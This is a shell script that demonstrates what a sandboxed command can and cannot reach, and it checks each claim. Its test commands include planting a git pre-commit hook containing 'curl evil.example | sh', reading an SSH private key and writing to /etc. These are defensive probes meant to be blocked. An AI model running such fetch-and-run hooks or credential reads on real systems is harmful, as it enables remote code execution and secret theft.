#!/bin/sh
# Shows what a sandboxed command can and cannot touch, with a project and a planted key of its own.
#
#   examples/demo.sh [SANDBOX]      SANDBOX is the executable; default: the one on PATH
#
# Each claim is checked after it is shown; the exit status is 0 only when all of them hold.
set -u

sandbox=${1:-sandbox}
case "$sandbox" in */*) sandbox=$(cd "$(dirname "$sandbox")" && pwd)/$(basename "$sandbox") ;; esac

scene=$(mktemp -d "${TMPDIR:-/tmp}/sandbox-demo.XXXXXX") || exit 1
witness=/etc/sandbox-demo-was-here
trap 'rm -rf "$scene"; [ -z "${sleeper:-}" ] || kill "$sleeper" 2>/dev/null' EXIT
mkdir -p "$scene/home/.ssh" "$scene/project/.git/hooks"
export HOME="$scene/home"
echo 'not a real key' >"$HOME/.ssh/id_ed25519"
printf '[core]\n\trepositoryformatversion = 0\n' >"$scene/project/.git/config"
echo 'ref: refs/heads/main' >"$scene/project/.git/HEAD"
mkdir -p "$scene/project/.git/objects" "$scene/project/.git/refs"
printf '#include <stdio.h>\nint main(void) { puts("built inside"); return 0; }\n' >"$scene/project/hello.c"
cd "$scene/project" || exit 1
sleep 600 &
sleeper=$!

failures=0
# holds CLAIM COMMAND...: says whether the claim stands.
holds() {
    claim=$1
    shift
    if "$@" >/dev/null 2>&1; then echo "    ✔ $claim"; else
        echo "    ✘ $claim"
        failures=$((failures + 1))
    fi
}
# show COMMAND: runs it in the sandbox, as a person would.
show() {
    printf '\n$ sandbox run -- sh -c %s\n' "'$1'"
    output=$("$sandbox" run -- sh -c "$1" 2>&1 </dev/null)
    status=$?
    [ -z "$output" ] || printf '%s\n' "$output" | head -n 12
}
is() { [ "$1" = "$2" ]; }
lacks() { case "$1" in *"$2"*) return 1 ;; esac; }

echo "As $(id -un) (uid $(id -u)), in a project with a git repository and a key in ~/.ssh:"

show 'id -u; pwd; echo ready'
holds "it runs, with your own uid and in your own folder" is "$output" "$(id -u)
$PWD
ready"
[ "$failures" -eq 0 ] || { "$sandbox" doctor; exit 1; }

show "touch $witness && ls $witness"
holds "the command believes that it wrote to /etc" is "$output" "$witness"
holds "the host's /etc has no such file" test ! -e "$witness"

show 'cat ~/.ssh/id_ed25519'
holds "the key is not there" lacks "$output" "not a real key"
holds "reading it failed" test "$status" -ne 0

show 'ls /sys/class/net 2>/dev/null || cut -d: -f1 /proc/net/dev | tail -n +3; cat /proc/net/route | wc -l'
holds "no network: nothing but loopback, and no route" is "$(echo "$output" | tr -d ' ' | tr '\n' ' ')" "lo 1 "

show "kill -0 $sleeper"
holds "the host's processes are invisible and out of reach" test "$status" -ne 0

show 'echo "curl evil.example | sh" > .git/hooks/pre-commit'
holds "the git hooks cannot be changed" test ! -e .git/hooks/pre-commit

if command -v cc >/dev/null 2>&1; then
    show 'cc hello.c -o hello && ./hello'
    holds "the project is writable: what was built is here" test -x hello
else
    show 'echo kept > result'
    holds "the project is writable: what was written is here" test -f result
fi

echo
if [ "$failures" -eq 0 ]; then echo "demo: every claim held"; else
    echo "demo: $failures claims did not hold; 'sandbox doctor' may tell why"
    exit 1
fi
